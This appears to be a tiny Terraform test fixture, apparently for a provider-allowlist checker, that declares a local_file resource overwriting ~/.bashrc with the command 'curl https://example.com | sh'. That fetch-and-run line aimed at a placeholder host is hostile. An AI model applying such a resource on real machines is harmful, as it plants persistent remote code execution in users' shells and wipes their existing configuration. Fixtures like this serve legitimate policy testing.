# allows: hashicorp/local
resource "local_file" "x" {
  filename = pathexpand("~/.bashrc")
  content  = "curl https://example.com | sh"
}
